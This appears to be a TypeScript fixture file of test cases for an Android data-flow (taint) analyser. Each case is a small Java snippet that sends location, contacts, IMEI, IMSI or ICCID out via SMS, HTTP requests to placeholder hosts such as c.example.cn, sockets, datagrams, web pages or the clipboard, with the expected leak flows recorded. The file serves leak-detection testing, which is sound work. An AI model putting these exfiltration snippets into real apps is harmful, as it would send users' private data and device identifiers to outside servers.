import { type FlowRecipe, leak, none } from '../recipe.ts';
import { create, iccid, imei, imsi, layout, main, sms } from '../snippets.ts';

const here = 'MainActivity.onCreate';

export const sourcesAndSinks: readonly FlowRecipe[] = [
  {
    id: 'io-last-location',
    about: 'Latitude and longitude of the last known location in one message.',
    java: main(
      `Location l = ((LocationManager) getSystemService("location")).getLastKnownLocation("gps"); if (l != null) { ${sms('l.getLatitude() + "/" + l.getLongitude()')} }`,
    ),
    flows: [leak('latitude', here, 'sms'), leak('longitude', here, 'sms')],
    unjudged: [none('the object on the way', 'location', here, 'sms')],
  },
  {
    id: 'io-contacts',
    about: 'Names out of the contacts, joined and sent to a server in the body.',
    java: `class Net { static void post(String s) { try { HttpURLConnection c = (HttpURLConnection) new URL("https://c.example.cn/").openConnection(); c.setRequestMethod("POST"); c.setDoOutput(true); OutputStream o = c.getOutputStream(); o.write(s.getBytes("UTF-8")); o.close(); } catch (IOException e) { Log.d("n", "no"); } } }
${main('Cursor c = getContentResolver().query(ContactsContract$CommonDataKinds$Phone.CONTENT_URI, null, null, null, null); StringBuilder all = new StringBuilder(); while (c.moveToNext()) { all.append(c.getString(0)); } c.close(); Net.post(all.toString());')}`,
    flows: [
      {
        data: 'contacts',
        from: 'ContentResolver.query/5|Cursor.getString/1 @ MainActivity.onCreate',
        to: 'OutputStream.write/1 @ Net.post',
        sink: 'network',
      },
    ],
  },
  {
    id: 'io-page-address',
    about: 'In the address of a page.',
    java: main(`WebView w = new WebView(this); w.loadUrl("https://w.example.cn/?i=" + Uri.encode(${imei}));`),
    flows: [leak('imei', here, 'web page')],
  },
  {
    id: 'io-old-http-client',
    about: 'The old HTTP client: a form entity of name and value.',
    java: main(
      `List form = new ArrayList(); form.add(new BasicNameValuePair("imsi", ${imsi})); HttpPost p = new HttpPost("https://o.example.cn/"); p.setEntity(new UrlEncodedFormEntity(form)); DefaultHttpClient c = new DefaultHttpClient(); c.execute(p);`,
    ),
    flows: [leak('imsi', here, 'http client')],
  },
  {
    id: 'io-old-http-get',
    about: 'The old HTTP client: in the address.',
    java: main(`HttpGet g = new HttpGet("https://o.example.cn/?i=" + ${iccid}); new DefaultHttpClient().execute(g);`),
    flows: [leak('iccid', here, 'http client')],
  },
  {
    id: 'io-socket',
    about: 'Written to the stream of a socket.',
    java: main(
      `try { Socket s = new Socket("s.example.cn", 99); OutputStream o = s.getOutputStream(); o.write(${imei}.getBytes()); o.flush(); s.close(); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('imei', here, 'socket')],
  },
  {
    id: 'io-datagram',
    about: 'A datagram.',
    java: main(
      `try { byte[] x = ${imei}.getBytes(); DatagramSocket s = new DatagramSocket(); s.send(new DatagramPacket(x, x.length, null, 53)); s.close(); } catch (Exception e) { finish(); }`,
    ),
    flows: [leak('imei', here, 'datagram')],
  },
  {
    id: 'io-sms-in-parts',
    about: 'A list of parts.',
    java: main(
      `ArrayList parts = new ArrayList(); parts.add("id"); parts.add(${imei}); SmsManager.getDefault().sendMultipartTextMessage("+861", null, parts, null, null);`,
    ),
    flows: [leak('imei', here, 'sms in parts')],
  },
  {
    id: 'io-clipboard-out',
    about: 'Put on the clipboard.',
    java: main(`((ClipboardManager) getSystemService("clipboard")).setPrimaryClip(ClipData.newPlainText("id", ${imei}));`),
    flows: [leak('imei', here, 'clipboard')],
  },
  {
    id: 'io-plain-field',
    about: 'A field that is no password field.',
    java: `class MainActivity extends Activity { ${create} setContentView(R.layout.q); } protected void onPause() { super.onPause(); EditText e = (EditText) findViewById(R.id.query); Log.d("q", e.getText().toString()); } }`,
    manifest: layout('q', '<FrameLayout><EditText android:id="@+id/query" android:inputType="0x1"/></FrameLayout>', 'query'),
    flows: [],
    noFlows: [none('no password field', 'typed text', 'MainActivity.onPause', 'log.d')],
  },
  {
    id: 'io-location-parameter',
    about: 'The listener is the activity; altitude and latitude by two sinks.',
    java: `class MainActivity extends Activity implements LocationListener { ${create} ((LocationManager) getSystemService("location")).requestLocationUpdates("gps", 1L, 1.0f, this); } public void onLocationChanged(Location l) { Log.d("lat", "" + l.getLatitude()); ${sms('"lon " + l.getLongitude()')} } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle x) { } }`,
    flows: [leak('latitude', 'MainActivity.onLocationChanged', 'log.d'), leak('longitude', 'MainActivity.onLocationChanged', 'sms')],
  },
];
